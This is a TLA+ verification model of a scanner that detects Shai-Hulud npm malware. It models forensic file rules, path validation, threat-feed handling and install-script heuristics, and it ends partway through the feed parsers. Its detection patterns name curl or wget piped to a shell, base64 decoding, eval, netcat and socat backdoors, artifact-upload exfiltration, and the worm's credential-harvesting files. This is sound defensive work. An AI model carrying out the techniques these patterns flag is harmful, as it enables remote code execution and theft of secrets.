---- MODULE Spec2Model ----
(***************************************************************************)
(* Verification model of the Shai-Hulud scanner                            *)
(* (scripts/shai-hulud-scanner-enhanced.js): threat-feed cache and fetch,  *)
(* package check (forensic verifier, script heuristics, version match),     *)
(* issue ledger and the exit logic of the main entry point.                *)
(*                                                                         *)
(* Strings the code matches with regular expressions are modelled as       *)
(* sequences of words (a command line split at single blanks) or as sets   *)
(* of tokens (the substrings a file holds); a pattern is evaluated on      *)
(* that structure the way the regular expression evaluates on the text.    *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* ------------------------------------------------------------------------
\* CONFIG (scanner constants)
\* ------------------------------------------------------------------------
MB == 1024 * 1024
CACHE_TIMEOUT_MS == 30 * 60 * 1000
MAX_FILE_SIZE_BYTES == 50 * MB
MAX_PATH_LENGTH == 4096
MAX_VERIFY_SIZE == 5 * MB
MAX_CONTENT_LENGTH_FOR_REGEX == 10 * MB
MAX_JSON_KEYS == 10000
MAX_JSON_STRINGIFIED == MB
MAX_TEXT_CHECKED == MB

\* ------------------------------------------------------------------------
\* Small utilities
\* ------------------------------------------------------------------------
RECURSIVE SumLen(_)
SegLen(s) == IF s = "LONGSEGMENT" THEN 4080 ELSE Len(s)
SumLen(p) == IF p = <<>> THEN 0 ELSE 1 + SegLen(Head(p)) + SumLen(Tail(p))

\* path.join(dir, name): paths are sequences of segments below "/"
Join(p, rel) == p \o rel
PathLen(p) == SumLen(p)
IsPrefix(a, b) == Len(a) <= Len(b) /\ SubSeq(b, 1, Len(a)) = a

\* String.prototype.toLowerCase on the strings of the model
Lower(s) ==
    CASE s = "AWS_KEY" -> "aws_key"
      [] s = "PATH" -> "path"
      [] s = "SETUP_BUN" -> "setup_bun"
      [] s = "Webpack" -> "webpack"
      [] s = "USER" -> "user"
      [] s = "SHELL" -> "shell"
      [] s = "HOME" -> "home"
      [] s = "truffleSecrets.json" -> "trufflesecrets.json"
      [] s = "actionsSecrets.json" -> "actionssecrets.json"
      [] s = "Bundle.js" -> "bundle.js"
      [] OTHER -> s

\* String.prototype.includes on the strings of the model: the proper
\* substrings that matter (patterns and key names) are listed
SubstrPairs ==
    { <<"aws_key", "aws">>, <<"aws_key", "key">>,
      <<"my_token", "token">>, <<"gcp_token", "token">>,
      <<"npm_config_cache", "npm_config_">>,
      <<"environment", "env">>, <<"package_name", "package">>, <<"setup_bun.js", "setup_bun">> }
Includes(s, sub) == s = sub \/ <<s, sub>> \in SubstrPairs

\* JavaScript values of a manifest field
JsUndef == [t |-> "undefined", v |-> ""]
JsStr(s) == [t |-> "string", v |-> s]
JsNum(s) == [t |-> "number", v |-> s]
Truthy(x) ==
    CASE x.t = "undefined" -> FALSE
      [] x.t = "string" -> x.v # ""
      [] x.t = "number" -> x.v # "0"
      [] OTHER -> TRUE

\* ------------------------------------------------------------------------
\* FORENSIC FILE LIST
\* ------------------------------------------------------------------------
Regex(p, ci) == [pat |-> p, ci |-> ci]

NameOnlyRule == [type |-> "CRITICAL", checkContent |-> FALSE, isJson |-> FALSE,
                 hasIndicators |-> FALSE, indicators |-> {}, safePatterns |-> {},
                 requiredKeys |-> {}, safeKeys |-> {}]
TextRule(ind, safe) == [type |-> "HIGH", checkContent |-> TRUE, isJson |-> FALSE,
                        hasIndicators |-> TRUE, indicators |-> ind, safePatterns |-> safe,
                        requiredKeys |-> {}, safeKeys |-> {}]
JsonRule(req, safe) == [type |-> "HIGH", checkContent |-> TRUE, isJson |-> TRUE,
                        hasIndicators |-> FALSE, indicators |-> {}, safePatterns |-> {},
                        requiredKeys |-> req, safeKeys |-> safe]

\* Object.entries(FORENSIC_RULES), in insertion order; a name is the
\* relative path of the file below the package directory
FORENSIC_RULES_ENTRIES ==
    << <<"setup_bun.js">>, <<"bun_environment.js">>, <<"truffleSecrets.json">>,
       <<"actionsSecrets.json">>, <<".github", "workflows", "discussion.yaml">>,
       <<".github", "workflows", "discussion.yml">>, <<"bundle.js">>,
       <<"contents.json">>, <<"cloud.json">>, <<"environment.json">> >>

ForensicNames == { FORENSIC_RULES_ENTRIES[i] : i \in 1..Len(FORENSIC_RULES_ENTRIES) }

FORENSIC_RULES(name) ==
    CASE name = <<"bundle.js">> ->
            TextRule({ Regex("setup_bun", TRUE), Regex("bun_environment", TRUE),
                       Regex("child_process", FALSE), Regex("socket.connect", FALSE) },
                     { Regex("webpack", TRUE), Regex("react", TRUE), Regex("babel", TRUE) })
      [] name = <<"contents.json">> ->
            JsonRule({"aws", "key", "token", "secret", "password", "env"},
                     {"images", "info", "properties"})
      [] name = <<"cloud.json">> ->
            JsonRule({"aws_access_key_id", "azure_client_id", "gcp_token"}, {})
      [] name = <<"environment.json">> ->
            JsonRule({"PATH", "USER", "SHELL", "HOME", "npm_config_"}, {})
      [] OTHER -> NameOnlyRule

\* ------------------------------------------------------------------------
\* File system as the scanner sees it
\* ------------------------------------------------------------------------
\* A file body. json: what JSON.parse gives ("invalid" when it throws);
\* keys: top-level keys of a JSON object; strs: further strings of the
\* document (nested keys, values); words: the tokens of a text file and
\* head the tokens within its first MAX_TEXT_CHECKED characters; nkeys the
\* number of top-level keys (keys holds the ones that matter); version
\* and scripts: the fields of a manifest object.
NoScripts == [t |-> "undefined", hooks |-> <<>>]
Body(json, keys, nkeys, strs, words, head, version, scripts) ==
    [json |-> json, keys |-> keys, nkeys |-> nkeys, strs |-> strs, words |-> words,
     head |-> head, version |-> version, scripts |-> scripts]
JsonDoc(json, keys, strs) ==
    Body(json, keys, Cardinality(keys), strs, {}, {}, JsUndef, NoScripts)
TextDoc(words, head) == Body("invalid", {}, 0, {}, words, head, JsUndef, NoScripts)
Manifest(version, scripts) == Body("object", {}, 0, {}, {}, {}, version, scripts)
EmptyBody == TextDoc({}, {})

Node(kind, size, err, body) == [kind |-> kind, size |-> size, err |-> err, body |-> body]
DirNode == Node("dir", 0, "EISDIR", EmptyBody)
LinkNode == Node("symlink", 0, "none", EmptyBody)
\* a symbolic link to the directory or file at target; LinkNode dangles
LinkTo(target) == Node("symlink", 0, "none", [target |-> target])
UnreadableDir == Node("dir", 0, "EACCES", EmptyBody)
FileNode(size, body) == Node("file", size, "none", body)
UnreadableFile == Node("file", 100, "EACCES", EmptyBody)

VARIABLES
    fs,              \* the scanned file system: path -> node
    badPackages,     \* the denylist: package name -> set of versions
    detectedIssues,  \* the issue ledger (append-only list)
    scanStats,       \* run-scoped counters
    isShuttingDown,  \* the shutdown flag
    call,            \* the check in progress or last made: its arguments
    pc,              \* position of the main entry point
    args,            \* the command line: process.argv.slice(2)
    env,             \* the environment of the process
    exitCode,        \* status the process exited with
    cache,           \* per source: cached payload file and its hash file
    fallback,        \* per source: the bundled offline copy
    net,             \* per source: the request, its timer and its promise
    sent,            \* URLs a request was issued to
    feedData,        \* per source: wizData / jsonData of fetchThreats
    clock,           \* number of runs started on this machine
    saved,           \* per source: the last saveToCache and what became of the entry
    stack,           \* the walker: calls and loops in progress, innermost first
    touched,         \* file-system calls made: operation, path, path validated before
    visited,         \* directories scanDir processed, with the depth of the call
    warnings,        \* how often each scan limit warning was logged
    pending,         \* a SIGINT or SIGTERM was delivered to the process
    report,          \* the report file as last written
    uploaded         \* the payload written to the upload request

vars == <<fs, badPackages, detectedIssues, scanStats, isShuttingDown, call,
          pc, args, env, exitCode, cache, fallback, net, sent, feedData, clock,
          saved, stack, touched, visited, warnings, pending, report, uploaded>>
walkVars == <<stack, touched, visited, warnings>>
outVars == <<pending, report, uploaded>>

\* ------------------------------------------------------------------------
\* SECURITY UTILITIES
\* ------------------------------------------------------------------------
NullPath == <<"<null>">>
NoBase == <<"<nobase>">>
HasNul(p) == \E i \in 1..Len(p) : p[i] = "<NUL>"

\* path.resolve: ".." steps are folded away
RECURSIVE Resolve(_, _)
Resolve(done, rest) ==
    IF rest = <<>> THEN done
    ELSE IF Head(rest) = ".." THEN
        Resolve(IF done = <<>> THEN <<>> ELSE SubSeq(done, 1, Len(done) - 1), Tail(rest))
    ELSE Resolve(Append(done, Head(rest)), Tail(rest))

validatePath(inputPath, basePath) ==
    IF inputPath = <<>> THEN NullPath
    ELSE IF PathLen(inputPath) > MAX_PATH_LENGTH THEN NullPath
    ELSE IF HasNul(Resolve(<<>>, inputPath)) THEN NullPath
    ELSE IF basePath # NoBase
            /\ ~IsPrefix(Resolve(<<>>, basePath), Resolve(<<>>, inputPath))
         THEN NullPath
    ELSE Resolve(<<>>, inputPath)

\* fs.realpathSync: symbolic links on the way are followed; Missing for a
\* link that dangles or a chain longer than the system follows (ELOOP)
Missing == <<"<missing>">>
MAX_LINKS_FOLLOWED == 8
RECURSIVE Real(_, _, _)
RealStep(q, rest, fuel) ==
    IF q \in DOMAIN fs /\ fs[q].kind = "symlink"
    THEN IF "target" \in DOMAIN fs[q].body /\ fuel > 0
         THEN Real(<<>>, fs[q].body.target \o rest, fuel - 1)
         ELSE Missing
    ELSE Real(q, rest, fuel)
Real(done, rest, fuel) ==
    IF rest = <<>> THEN done ELSE RealStep(Append(done, Head(rest)), Tail(rest), fuel)
realpath(p) == Real(<<>>, p, MAX_LINKS_FOLLOWED)
\* the entry an lstat looks at: links in the directory part are followed,
\* the last component is not
EntryIn(dir, name) == IF dir = Missing THEN Missing ELSE Append(dir, name)
lpath(p) == IF p = <<>> THEN p ELSE EntryIn(realpath(SubSeq(p, 1, Len(p) - 1)), p[Len(p)])

\* fs.existsSync, fs.lstatSync: the node at a path, or a failure
Exists(p) == realpath(p) \in DOMAIN fs
IsFile(q) == q \in DOMAIN fs /\ fs[q].kind = "file"
lstatIsFile(p) == IsFile(lpath(p))
\* fs.statSync, fs.readFileSync: the node the path leads to
NodeAt(p) == fs[realpath(p)]

\* safeReadFile(filePath, maxSize) -> {content, error, size}
ReadResult(content, error, size) == [content |-> content, error |-> error, size |-> size]
ReadAt(real, maxSize) ==
    IF real \notin DOMAIN fs
    THEN ReadResult(EmptyBody, "ENOENT", 0)
    ELSE IF fs[real].size > maxSize
    THEN ReadResult(EmptyBody, "FILE_TOO_LARGE", fs[real].size)
    ELSE IF fs[real].err # "none"
    THEN ReadResult(EmptyBody, fs[real].err, 0)
    ELSE ReadResult(fs[real].body, "none", fs[real].size)
safeReadFile(filePath, maxSize) == ReadAt(realpath(filePath), maxSize)

\* ------------------------------------------------------------------------
\* FORENSIC FILE VERIFICATION
\* ------------------------------------------------------------------------
Verdict(confirmed, reason, severity) ==
    [confirmed |-> confirmed, reason |-> reason, severity |-> severity]

LowerPath(p) == [i \in DOMAIN p |-> Lower(p[i])]
\* FORENSIC_RULES[fileName] || FORENSIC_RULES[FORENSIC_RULES_KEYS_LOWER[lower]]
RuleKeys(fileName) ==
    IF fileName \in ForensicNames THEN {fileName}
    ELSE { k \in ForensicNames : LowerPath(k) = LowerPath(fileName) }

Tokens(body) == body.words \cup body.keys \cup body.strs
HeadTokens(body) == body.head \cup body.keys \cup body.strs
RegexTest(r, toks) ==
    \E t \in toks : Includes(IF r.ci THEN Lower(t) ELSE t, r.pat)

\* rule.requiredKeys.some(...): a top-level key that holds the required key,
\* compared in lower case, or the required key anywhere in the serialized
\* document unless that is longer than 1 MB
hasSuspiciousKey(rule, body, size) ==
    \E reqKey \in rule.requiredKeys :
        \/ \E k \in body.keys : Includes(Lower(k), Lower(reqKey))
        \/ /\ size <= MAX_JSON_STRINGIFIED
           /\ \E t \in body.keys \cup body.strs : Includes(t, reqKey)

hasSafeKey(rule, body) == rule.safeKeys \cap body.keys # {}

\* variant: the suspicious keys are looked at before the allowlist
verifyJson_SuspiciousFirst(rule, body, size) ==
    IF size > MAX_VERIFY_SIZE THEN Verdict(FALSE, "JSON file too large", "none")
    ELSE IF body.json = "invalid" THEN Verdict(FALSE, "Invalid JSON", "none")
    ELSE IF body.json \notin {"object", "array"}
    THEN Verdict(FALSE, "Invalid JSON structure", "none")
    ELSE IF body.nkeys > MAX_JSON_KEYS THEN Verdict(FALSE, "JSON has too many keys", "none")
    ELSE IF hasSuspiciousKey(rule, body, size)
    THEN Verdict(TRUE, "Contains suspicious JSON keys", rule.type)
    ELSE IF hasSafeKey(rule, body)
    THEN Verdict(FALSE, "Contains whitelisted JSON keys", "none")
    ELSE Verdict(FALSE, "JSON structure benign", rule.type)

verifyJson(rule, body, size) ==
    IF size > MAX_VERIFY_SIZE THEN Verdict(FALSE, "JSON file too large", "none")
    ELSE IF body.json = "invalid" THEN Verdict(FALSE, "Invalid JSON", "none")
    ELSE IF body.json \notin {"object", "array"}
    THEN Verdict(FALSE, "Invalid JSON structure", "none")
    ELSE IF body.nkeys > MAX_JSON_KEYS THEN Verdict(FALSE, "JSON has too many keys", "none")
    ELSE IF hasSafeKey(rule, body)
    THEN Verdict(FALSE, "Contains whitelisted JSON keys", "none")
    ELSE IF hasSuspiciousKey(rule, body, size)
    THEN Verdict(TRUE, "Contains suspicious JSON keys", rule.type)
    ELSE Verdict(FALSE, "JSON structure benign", rule.type)

\* variant: an indicator confirms whatever the safe patterns say
verifyText_IndicatorAlone(rule, body, size) ==
    LET toks == IF size > MAX_TEXT_CHECKED THEN HeadTokens(body) ELSE Tokens(body)
    IN  IF \E r \in rule.indicators : RegexTest(r, toks)
        THEN Verdict(TRUE, "Matched malicious content signatures", rule.type)
        ELSE Verdict(FALSE, "Content did not match malware signatures", rule.type)

verifyText(rule, body, size) ==
    LET toks == IF size > MAX_TEXT_CHECKED THEN HeadTokens(body) ELSE Tokens(body)
        matchesIndicator == \E r \in rule.indicators : RegexTest(r, toks)
        matchesSafe == \E r \in rule.safePatterns : RegexTest(r, toks)
    IN  IF matchesIndicator /\ ~matchesSafe
        THEN Verdict(TRUE, "Matched malicious content signatures", rule.type)
        ELSE Verdict(FALSE, "Content did not match malware signatures", rule.type)

verifyContent(rule, filePath) ==
    LET r == safeReadFile(filePath, MAX_VERIFY_SIZE)
    IN  IF r.error # "none" THEN Verdict(FALSE, "Read error", "none")
        ELSE IF r.size = 0 THEN Verdict(FALSE, "Empty file", "none")
        ELSE IF r.size > MAX_CONTENT_LENGTH_FOR_REGEX
        THEN Verdict(FALSE, "File too large for content analysis", "none")
        ELSE IF rule.isJson THEN verifyJson(rule, r.content, r.size)
        ELSE IF rule.hasIndicators THEN verifyText(rule, r.content, r.size)
        ELSE Verdict(FALSE, "Inconclusive", "none")

\* variant: the content is inspected whatever the tier of the rule
verifyRule_AlwaysContent(rule, filePath) == verifyContent(rule, filePath)

verifyRule(rule, filePath) ==
    IF ~rule.checkContent THEN Verdict(TRUE, "High confidence IOC", rule.type)
    ELSE verifyContent(rule, filePath)

verifySuspiciousFile(filePath, fileName) ==
    IF validatePath(filePath, NoBase) = NullPath
    THEN Verdict(FALSE, "Invalid file path", "none")
    ELSE IF RuleKeys(fileName) = {} THEN Verdict(FALSE, "No rule found", "none")
    ELSE verifyRule(FORENSIC_RULES(CHOOSE k \in RuleKeys(fileName) : TRUE),
                    validatePath(filePath, NoBase))

\* ------------------------------------------------------------------------
\* HEURISTIC CONFIGURATION
\* ------------------------------------------------------------------------
\* A command is the sequence of its blank-separated words.
PrefixPairs ==
    { <<"opencollective-postinstall", "opencollective">>, <<"bashful", "bash">>,
      <<"@scope/evil", "@">>, <<"@scope/left-pad", "@">>,
      <<"shx", "sh">>, <<"--decode", "-d">> }
HasPrefix(w, pre) == w = pre \/ <<w, pre>> \in PrefixPairs

SCRIPT_WHITELIST ==
    { <<"husky", "install">>, <<"husky">>, <<"is-ci", "||", "husky", "install">>,
      <<"ngcc">>, <<"ngcc", "--properties", "es2015", "browser", "module", "main">>,
      <<"ivy-ngcc">>, <<"tsc">>, <<"tsc", "-p", "tsconfig.json">>, <<"tsc", "--build">>,
      <<"rimraf">>, <<"rimraf", "dist">>, <<"shx">>, <<"prebuild-install">>,
      <<"node-gyp", "rebuild">>,
      <<"node-pre-gyp", "install", "--fallback-to-build">>, <<"patch-package">>,
      <<"esbuild">>, <<"node", "scripts/postinstall.js">>,
      <<"node", "scripts/postinstall">>, <<"lerna", "bootstrap">>, <<"nx">>,
      <<"electron-builder", "install-app-deps">>, <<"exit", "0">>, <<"true">>,
      <<"echo">> }

\* SCRIPT_WHITELIST_REGEX: every pattern is anchored at the start of the
\* command only ("^"), and only one of them at its end ("$")
WlThenBlank(a) == [kind |-> "then_blank", a |-> a, b |-> ""]
WlWord(a) == [kind |-> "word", a |-> a, b |-> ""]
WlPrefix(a) == [kind |-> "prefix", a |-> a, b |-> ""]
WlTwo(a, b) == [kind |-> "two_prefix", a |-> a, b |-> b]
WlTwoWord(a, b) == [kind |-> "two_word", a |-> a, b |-> b]
WlWhole(a, b) == [kind |-> "whole", a |-> a, b |-> b]
SCRIPT_WHITELIST_REGEX ==
    { WlThenBlank("echo"), WlThenBlank("rimraf"), WlThenBlank("shx"), WlWord("tsc"),
      WlWord("ngcc"), WlThenBlank("node-gyp"), WlPrefix("prebuild-install"),
      WlWord("husky"), WlThenBlank("is-ci"), WlPrefix("opencollective"),
      WlPrefix("patch-package"), WlWhole("node", "scripts/postinstall"),
      WlWhole("node", "scripts/postinstall.js"),
      WlTwo("electron-builder", "install-app-deps"), WlTwo("lerna", "bootstrap"),
      WlTwo("nx", "run"), WlTwo("turbo", "run"), WlWord("esbuild"),
      WlTwoWord("node-pre-gyp", "install") }

WhitelistRegexTest(r, cmd) ==
    CASE r.kind = "then_blank" -> Len(cmd) >= 2 /\ cmd[1] = r.a
      [] r.kind = "word" -> Len(cmd) >= 1 /\ cmd[1] = r.a
      [] r.kind = "prefix" -> Len(cmd) >= 1 /\ HasPrefix(cmd[1], r.a)
      [] r.kind = "two_prefix" -> Len(cmd) >= 2 /\ cmd[1] = r.a /\ HasPrefix(cmd[2], r.b)
      [] r.kind = "two_word" -> Len(cmd) >= 2 /\ cmd[1] = r.a /\ cmd[2] = r.b
      [] r.kind = "whole" -> cmd = <<r.a, r.b>>
      [] OTHER -> FALSE

isWhitelistedRegex(cmd) == \E r \in SCRIPT_WHITELIST_REGEX : WhitelistRegexTest(r, cmd)

\* The patterns of CRITICAL_PATTERNS and WARNING_PATTERNS that a command over
\* the model's words can match, in the order of the source.
Pattern(kind, a, desc, indicator) ==
    [kind |-> kind, a |-> a, desc |-> desc, indicator |-> indicator]
CRITICAL_PATTERNS ==
    << Pattern("pipe_shell", "curl", "Curl piped to shell", "REMOTE_CODE_EXEC"),
       Pattern("pipe_shell", "wget", "Wget piped to shell", "REMOTE_CODE_EXEC"),
       Pattern("decode_flag", "base64", "Base64 decoding", "OBFUSCATION"),
       Pattern("substr", "eval(", "Eval statement", "CODE_INJECTION"),
       Pattern("substr_ci", "setup_bun", "Shai-Hulud Loader", "SHAI_HULUD"),
       Pattern("substr_ci", "bun_environment", "Shai-Hulud Payload", "SHAI_HULUD"),
       Pattern("substr_ci", "sha1hulud", "Shai-Hulud Signature", "SHAI_HULUD") >>
WARNING_PATTERNS ==
    << Pattern("substr", "http://", "Unencrypted HTTP", "INSECURE_NETWORK"),
       Pattern("substr", "String.fromCharCode", "Char code obfuscation", "OBFUSCATION"),
       Pattern("substr_ci", "actions/upload-artifact", "GitHub Actions artifact usage",
               "EXFIL_ATTEMPT"),
       Pattern("word_then_arg", "nc", "Netcat usage", "BACKDOOR_PRIMITIVE"),
       Pattern("word_then_arg", "socat", "socat usage", "BACKDOOR_PRIMITIVE") >>

WordIncludes(w, pat) ==
    \/ w = pat
    \/ <<w, pat>> \in { <<"http://x/y", "http://">>, <<"eval(x)", "eval(">>,
                       <<"setup_bun.js", "setup_bun">> }
IsShell(w) == \E sh \in {"sh", "bash", "zsh"} : HasPrefix(Lower(w), sh)
NoPipe(w) == w # "|" /\ w # ""

PatternTest(r, cmd) ==
    CASE r.kind = "pipe_shell" ->
            \E i \in 1..Len(cmd) :
                /\ i + 3 <= Len(cmd)
                /\ Lower(cmd[i]) = r.a
                /\ NoPipe(cmd[i + 1])
                /\ cmd[i + 2] = "|"
                /\ IsShell(cmd[i + 3])
      [] r.kind = "decode_flag" ->
            \E i \in 1..Len(cmd) :
                i + 1 <= Len(cmd) /\ Lower(cmd[i]) = r.a /\ HasPrefix(cmd[i + 1], "-d")
      [] r.kind = "substr" -> \E i \in 1..Len(cmd) : WordIncludes(cmd[i], r.a)
      [] r.kind = "substr_ci" -> \E i \in 1..Len(cmd) : WordIncludes(Lower(cmd[i]), r.a)
      [] r.kind = "word_then_arg" ->
            \E i \in 1..Len(cmd) : i + 1 <= Len(cmd) /\ Lower(cmd[i]) = r.a
      [] OTHER -> FALSE

\* ------------------------------------------------------------------------
\* Issue ledger
\* ------------------------------------------------------------------------
Issue(type, package, version, location, details) ==
    [type |-> type, package |-> package, version |-> version,
     location |-> location, details |-> details]

\* ------------------------------------------------------------------------
\* HEURISTIC SCRIPT SCANNER
\* ------------------------------------------------------------------------
hooks == <<"preinstall", "install", "postinstall", "prepublish", "prepare",
           "preuninstall", "postuninstall">>

CmdStr(w) == [t |-> "string", w |-> w]
CmdNum == [t |-> "number", w |-> <<>>]
CmdTruthy(c) == c.t # "string" \/ c.w # <<>>

isWhitelisted(cmd) == cmd \in SCRIPT_WHITELIST \/ isWhitelistedRegex(cmd)

CriticalHits(cmd) == { i \in 1..Len(CRITICAL_PATTERNS) : PatternTest(CRITICAL_PATTERNS[i], cmd) }
FirstCritical(cmd) ==
    CRITICAL_PATTERNS[CHOOSE i \in CriticalHits(cmd) : \A j \in CriticalHits(cmd) : i <= j]

RECURSIVE WarningIssues(_, _, _, _, _)
WarningIssues(cmd, i, pkgName, version, pkgPath) ==
    IF i > Len(WARNING_PATTERNS) THEN <<>>
    ELSE (IF PatternTest(WARNING_PATTERNS[i], cmd)
          THEN << Issue("SCRIPT_WARNING", pkgName, version, pkgPath,
                        <<WARNING_PATTERNS[i].indicator, WARNING_PATTERNS[i].desc>>) >>
          ELSE <<>>)
         \o WarningIssues(cmd, i + 1, pkgName, version, pkgPath)

\* the loop over the hooks, from hook number i on: the issues it appends
RECURSIVE scanHooks(_, _, _, _, _)
scanHooks(scripts, i, pkgName, version, pkgPath) ==
    IF i > Len(hooks) THEN <<>>
    ELSE IF hooks[i] \notin DOMAIN scripts \/ ~CmdTruthy(scripts[hooks[i]])
    THEN scanHooks(scripts, i + 1, pkgName, version, pkgPath)
    ELSE IF scripts[hooks[i]].t # "string"
    THEN scanHooks(scripts, i + 1, pkgName, version, pkgPath)
    ELSE IF isWhitelisted(scripts[hooks[i]].w)
    THEN scanHooks(scripts, i + 1, pkgName, version, pkgPath)
    ELSE IF CriticalHits(scripts[hooks[i]].w) # {}
    THEN << Issue("CRITICAL_SCRIPT", pkgName, version, pkgPath,
                  << FirstCritical(scripts[hooks[i]].w).indicator,
                     FirstCritical(scripts[hooks[i]].w).desc >>) >>
    ELSE WarningIssues(scripts[hooks[i]].w, 1, pkgName, version, pkgPath)
         \o scanHooks(scripts, i + 1, pkgName, version, pkgPath)

\* checkScripts(content, pkgName, pkgPath): the issues it appends
checkScripts(content, pkgName, pkgPath) ==
    IF content.json # "object" \/ content.scripts.t # "object" THEN <<>>
    ELSE scanHooks(content.scripts.hooks, 1, pkgName,
                   IF Truthy(content.version) THEN content.version.v ELSE "UNKNOWN",
                   pkgPath)

\* ------------------------------------------------------------------------
\* MAIN ENTRY POINT: the command line
\* ------------------------------------------------------------------------
Undefined == "<undefined>"
ArgPrefixPairs ==
    { <<"--fail-on", "--">>, <<"--no-cache", "--">>, <<"--no-report", "--">>,
      <<"--no-upload", "--">>, <<"--help", "--">>, <<"--full-scan", "--">> }
    \cup { <<a, pre>> : a \in {"--fail-on=critical", "--fail-on=warning", "--fail-on=OFF",
                               "--fail-on=high", "--fail-on="},
                       pre \in {"--", "--fail-on="} }
    \cup { <<"--depth", "--">> }
    \cup { <<a, pre>> : a \in {"--depth=0", "--depth=1", "--depth=2", "--depth=10",
                               "--depth=11", "--depth=deep", "--depth="},
                       pre \in {"--", "--depth="} }
ArgStartsWith(a, pre) == a = pre \/ <<a, pre>> \in ArgPrefixPairs
\* a.split('=')[1]
AfterEq(a) ==
    CASE a = "--fail-on=critical" -> "critical"
      [] a = "--fail-on=warning" -> "warning"
      [] a = "--fail-on=OFF" -> "OFF"
      [] a = "--fail-on=high" -> "high"
      [] a = "--depth=0" -> "0"
      [] a = "--depth=1" -> "1"
      [] a = "--depth=2" -> "2"
      [] a = "--depth=10" -> "10"
      [] a = "--depth=11" -> "11"
      [] a = "--depth=deep" -> "deep"
      [] OTHER -> ""
ArgLower(a) == IF a = "OFF" THEN "off" ELSE Lower(a)

Includes_(argv, a) == \E i \in 1..Len(argv) : argv[i] = a
\* args.findIndex(test): the first position that passes, 0 for none
FindIndex(argv, test(_)) ==
    IF \E i \in 1..Len(argv) : test(argv[i])
    THEN CHOOSE i \in 1..Len(argv) : test(argv[i]) /\ \A j \in 1..(i - 1) : ~test(argv[j])
    ELSE 0
Find(argv, test(_)) ==
    IF FindIndex(argv, test) = 0 THEN Undefined ELSE argv[FindIndex(argv, test)]

pathArg(argv) == Find(argv, LAMBDA a : ~ArgStartsWith(a, "--"))
cwd == <<"proj">>
inputPath(argv) == IF pathArg(argv) \in {Undefined, ""} THEN cwd ELSE <<pathArg(argv)>>
help(argv) == Includes_(argv, "--help") \/ Includes_(argv, "-h")
shouldUpload(argv) == ~Includes_(argv, "--no-upload")
noCache(argv) == Includes_(argv, "--no-cache")
shouldGenerateReport(argv) == ~Includes_(argv, "--no-report")

DEFAULT_FAIL_ON == "critical"
FailOnValues == {"critical", "warning", "off"}
failOnEqArg(argv) == Find(argv, LAMBDA a : ArgStartsWith(a, "--fail-on="))
failOnIdx(argv) == FindIndex(argv, LAMBDA a : a = "--fail-on")
failOn(argv) ==
    IF failOnEqArg(argv) # Undefined
    THEN IF ArgLower(AfterEq(failOnEqArg(argv))) \in FailOnValues
         THEN ArgLower(AfterEq(failOnEqArg(argv))) ELSE DEFAULT_FAIL_ON
    ELSE IF failOnIdx(argv) # 0 /\ failOnIdx(argv) < Len(argv)
            /\ argv[failOnIdx(argv) + 1] # ""
    THEN IF ArgLower(argv[failOnIdx(argv) + 1]) \in FailOnValues
         THEN ArgLower(argv[failOnIdx(argv) + 1]) ELSE DEFAULT_FAIL_ON
    ELSE DEFAULT_FAIL_ON
\* failOnEqArg || failOnIdx !== -1
failOnGiven(argv) == failOnEqArg(argv) # Undefined \/ failOnIdx(argv) # 0

MAX_SCAN_DEPTH == 10
DEFAULT_SCAN_DEPTH == 5
\* Number(s): the number a string denotes, in a set that is empty for NaN
ToNumber(s) ==
    CASE s = "" -> {0}
      [] s = "0" -> {0}
      [] s = "1" -> {1}
      [] s = "2" -> {2}
      [] s = "10" -> {10}
      [] s = "11" -> {11}
      [] OTHER -> {}
\* !Number.isNaN(val) && val >= 0 && val <= CONFIG.MAX_SCAN_DEPTH
DepthOr(s, default) ==
    IF \E val \in ToNumber(s) : val >= 0 /\ val <= MAX_SCAN_DEPTH
    THEN CHOOSE val \in ToNumber(s) : TRUE ELSE default
depthEqArg(argv) == Find(argv, LAMBDA a : ArgStartsWith(a, "--depth="))
depthIdx(argv) == FindIndex(argv, LAMBDA a : a = "--depth")
maxDepth(argv) ==
    IF depthEqArg(argv) # Undefined
    THEN DepthOr(AfterEq(depthEqArg(argv)), DEFAULT_SCAN_DEPTH)
    ELSE IF depthIdx(argv) # 0 /\ depthIdx(argv) < Len(argv) /\ argv[depthIdx(argv) + 1] # ""
    THEN DepthOr(argv[depthIdx(argv) + 1], DEFAULT_SCAN_DEPTH)
    ELSE DEFAULT_SCAN_DEPTH
isFullScan(argv) == Includes_(argv, "--full-scan")
\* pathArg && !isFullScan
isProjectOnlyMode(argv) == pathArg(argv) \notin {Undefined, ""} /\ ~isFullScan(argv)

\* the environment: can the report file be written, is the upload URL set,
\* does the runtime end the process on an unhandled rejection (Node 15+)
\* what git config and npm whoami answer for the operator
Identity(gitName, gitEmail, npmUser) ==
    [gitName |-> gitName, gitEmail |-> gitEmail, npmUser |-> npmUser]
Ann == Identity("Ann Lee", "ann@example.com", "annlee")
Bob == Identity("=bob", "bob@example.com", "Not Logged In")
Env(reportWritable, uploadUrl, strictRejections) ==
    [reportWritable |-> reportWritable, uploadUrl |-> uploadUrl,
     strictRejections |-> strictRejections, identity |-> Ann]
QuietEnv == Env(TRUE, "unset", TRUE)

\* ------------------------------------------------------------------------
\* Threat feeds: payloads and parsers
\* ------------------------------------------------------------------------
\* A payload is "empty" (the empty string), "csv" (rows are its lines: a
\* name and the ||-separated versions), "json" (top says what JSON.parse
\* gives; rows are the entries of the top-level object, hasList telling
\* whether details.versions is an array) or "garbage" (neither).
Row(name, hasList, versions) ==
    [name |-> name, hasList |-> hasList, versions |-> versions, count |-> 1]
\* n consecutive entries of a JSON feed, each a package without a version
\* list; their names are not told apart
Bulk(n) == [Row("bulk", FALSE, <<>>) EXCEPT !.count = n]
Feed(kind, top, rows) == [kind |-> kind, top |-> top, rows |-> rows]
EmptyFeed == Feed("empty", "invalid", <<>>)
FeedTruthy(f) == f.kind # "empty"

StrLen(s) == IF s = "VERSION-LONGER-THAN-50" THEN 60 ELSE Len(s)
MAX_NAME_LENGTH == 214
MAX_VERSION_LENGTH == 50
maxPackages == 100000
MAX_CSV_LINES == 100000

\* the npm naming rule of parseWizCSV, on the names of the model
ValidNames == {"left-pad", "evil", "@scope/evil", "ghost"}
IsValidName(n) == n # "" /\ StrLen(n) <= MAX_NAME_LENGTH /\ n \in ValidNames

Range(q) == { q[i] : i \in 1..Len(q) }
StringsOf(versions) ==
    SelectSeq(versions, LAMBDA v : v.t = "string" /\ StrLen(v.v) <= MAX_VERSION_LENGTH)
Plain(versions) == [i \in 1..Len(versions) |-> versions[i].v]

\* adds the entry name -> list to a parse result (an object of arrays)
